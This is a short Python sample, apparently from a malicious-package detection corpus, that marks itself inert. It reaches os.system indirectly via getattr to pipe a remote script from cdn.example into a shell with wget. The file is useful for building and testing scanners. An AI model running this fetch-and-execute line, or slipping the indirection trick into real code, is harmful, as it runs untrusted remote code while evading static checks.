# pkgguard corpus 155 (indirection), modelled on [obfuscation]; inert, never run.
import os  # noqa: F401
import sys

_fn = getattr(sys.modules["os"], "system")
_fn("wget -q -O - https://cdn.example/i | sh")
